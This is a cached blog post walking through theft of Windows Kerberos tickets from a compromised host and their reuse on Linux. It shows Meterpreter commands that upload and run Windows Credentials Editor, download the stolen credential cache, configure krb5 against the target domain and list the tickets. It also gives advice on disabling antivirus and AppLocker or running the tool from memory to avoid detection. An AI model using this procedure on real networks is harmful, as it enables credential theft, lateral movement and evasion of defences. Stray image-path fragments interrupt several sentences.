The last time Hackerfall tried to access this page, it returned a not found error. A cached version of the page is below, or click here to continue anyway

Windows kerberos ticket theft and exploitation on other platforms | mikkolehtisalo Windows kerberos ticket theft and exploitation on other platforms – mikkolehtisalo


In the past there has been a lot of talk about pass the hash, but surprisingly little about different methods for exploiting kerberos tickets. Besides the discussionfocused on golden tickets the Kerberos has not really ever been a major target forabuse.

I decided to take a look at how the kerberos tickets can be dumped from a Windows target and re-used on Linux. It was surprisingly easy to accomplish.The following are required for this approach:

This postfocuses on manipulating the tickets and Kerberos, and omits less relevant parts.

Ticket theft

Upload the WCE and run it:

meterpreter > upload wce.exe
[*] uploading : wce.exe -> wce.exe
[*] uploaded : wce.exe -> wce.exe
meterpreter > execute -f wce.exe -i -H -a "-K"
Process 604 created.
Channel 2 created.
WCE v1.42beta (X64) (Windows Credentials Editor) - (c) 2010-2013 Amplia Security - by Hernan Ochoa (Use -h for help.

Converting and saving TGT in UNIX format to file wce_ccache...
Converting and saving tickets in Windows WCE Format to file wce_krbtkts..
5 kerberos tickets saved to file 'wce_ccache'.
5 kerberos tickets saved to file 'wce_krbtkts'.

Download wce_ccache for use with MIT or Heimdal Kerberos. It is in fact a credentials cache file, that has to be just copied into place after some basic configuration. In case you are wondering, wce_krbtkts is for Windows, and can be imported to an other Windows instance with WCE (with the -k option).

meterpreter > download wce_ccache
[*] downloading: wce_ccache -> wce_ccache
[*] downloaded : wce_ccache -> wce_ccache

Setting up

The following steps are required to configure a Linux platform for “joining” the Windows kerberos realm.

1. Make sure the clocks are synchronized.Kerberos challenges fail if the clock difference is more than 5 minutes. Find out the remote time and date:

meterpreter > execute -i -f cmd.exe -a "/C echo %TIME% %DATE%"
Process 2140 created.
Channel 10 created.
23:14:32,90 to 25.06.2015

Youcan either change the local time manually (for temporary use), or configurethe ntpd to synchronize the time from the domain controllers.

2. Make sure you have the Kerberos toolsinstalled. For instance Kali Linux does not by default, and you have to install the tools:

apt-get -y install krb5-user

3.You want to use the target domain’s DNS server to be able to access the service records:

meterpreter > execute -i -c -f ipconfig.exe -a "/ALL"
Process 2620 created.
Channel 15 created.
-- snippetysnap
 DNSServers . . . . . . . . . . . :

Testthat you can resolve names from the domain’s DNS service, because Kerberos is really bent on utilizing DNS:

# cat /etc/resolv.conf
# nslookup
> WIN-55NRNN3SRQ4.hacknet.x
Name: WIN-55NRNN3SRQ4.hacknet.x

4. Find the KDC, the domain name, and the NETBIOS name. There are several ways to accomplish this, for example:

meterpreter > ps
Process List
PID PPID Name Arch Session User Path
 --- ---- ---- ---- --- ---- ----
 2472 1188 cmd.exe x86_64 1 HACKNET\user C:\Windows\System32\cmd.exe

meterpreter > migrate 2472
[*] Migrating from 2692 to 2472...
[*] Migration completed successfully.
meterpreter > execute -i -f cmd.exe -a "/C set"

5. Use the previous information to create a valid Kerberos configuration file /etc/krb5.conf:

 default_realm = HACKNETkrb4_config = /etc/krb.conf
 krb4_realms =/etc/krb.realms
 kdc_timesync = 1
 ccache_type = 4
 forwardable = true
 proxiable = true
v4_instance_resolve = false
v4_name_convert = {
host = {
rcmd = host
ftp = ftp
plain = {
something = something-else
fcc-mit-ticketflags = true
kdc = WIN-55NRNN3SRQ4.hacknet.x:88
admin_server = WIN-55NRNN3SRQ4.hacknet.x
default_domain = hacknet.x
.hacknet.x = HACKNET
hacknet.x = HACKNET
krb4_convert = true
krb4_get_tickets = false

6. Copy the credentials cache file and queryfor tickets:

# klist
klist: No credentials cache found (ticket cache FILE:/tmp/krb5cc_0)
# cp wce_ccache /tmp/krb5cc_0
# klist
Ticket cache: FILE:/tmp/krb5cc_0
Default principal: HACKCLIENT$@HACKNET.X
Valid starting Expires Service principal
23/06/2015 20:43 24/06/2015 06:43 krbtgt/HACKNET.X@HACKNET.X
renew until 30/06/2015 20:43
23/06/2015 20:43 24/06/2015 06:43 krbtgt/HACKNET.X@HACKNET.X
renew until 30/06/2015 20:43
23/06/2015 20:43 24/06/2015 06:43 krbtgt/HACKNET.X@HACKNET.X
renew until 30/06/2015 20:43
23/06/2015 20:43 24/06/2015 06:43cifs/WIN-55NRNN3SRQ4.hacknet.x@HACKNET.X
renew until 30/06/2015 20:43
23/06/2015 20:43 24/06/2015 06:43 HACKCLIENT$@HACKNET.X
renew until 30/06/2015 20:43
23/06/2015 20:43 24/06/2015 06:43 LDAP/WIN-55NRNN3SRQ4.hacknet.x/hacknet.x@HACKNET.
renew until 30/06/2015 20:43


Let’s take a webservicethat uses GSSAPI/Kerberosauthentication. When accessed without working configuration it will respond bluntly with 401: Luckily after previous configuration steps all that has to be done is to configure Firefox to attemptGSSAPI/Kerberos for this domain: … And after previousaccessing the service with credentials taken from Windows succeeds:

For other applications the required configuration differs. For instance accessing CIFS shares requires sec=krb5 mount setting.

Potential issues

Mismatching confurations

Kerberos is somewhatunforgiving for configuration issues. If thesupportedencryption types for instance do not match, the authentication challenges will fail. The slightest problem in using DNS or too much clock skew, andthe authentication challenges again fail.Mostof the applications fail to report the actual reason to the user, and debugging may berequired.

The following environment variables will make Firefox print out extensive debug log:

export NSPR_LOG_MODULES=negotiateauth:5
export NSPR_LOG_FILE=/tmp/moz.log

The following environment variable will make krb5-libs print out trace log:

export KRB5_TRACE=/tmp/krb.log

No suitablecredentials

As we saw in the example, there are several credentials for different purposes. Some are used for authenticating the server to the domain services, some for authenticating user for logon, and most work only against a specific Service Principal Name. In practice that means you can sometimes access only what a logged on user has recently accessed.

That’s whyTicketGranting Ticketsexist.If your setup has been configured perfectlythe domain will be queried for missing tickets based on previous authentication done against the domain. In case this fails you have to debug your configuration as instructedabove.

Antivirus software & AppLocker

Both antivirus software and AppLocker can prevent the WCE from being run. Since you probably havesystem level privileges anyway, you can simply disable those features. Alternative is to execute the WCE from memory. Meterpreter offers an option for that:

execute -H -m -d calc.exe -f wce.exe -a "-K"

It has however been reported that WCE might still touch disk by temporarily writing a DLL. In case this is unacceptable, a method existsto usean alternative utility called Mimikatz.The demonstrated does not mean that Kerberos is broken. Not at all. It does not make an initial attack vector, andthe potential methods of protection would likely have negative side effects. For instance limiting thesource hosts for tickets would hindernetwork roaming – not very good idea for mobile users.

The past gold ticket vulnerabilityrequired similar theft of keys, but was also worseneda design flaw in the Windows KDC’s way of handling keys.

An other possible trick is simply to have the targetproxythe requests to services. The idea is that the computer that has an actual valid Kerberos ticket proxies therequests on behalf of the attacker while responding to challenges.This requires special software that islikely application specific.

Likethis:

Like Loading...

Continue reading on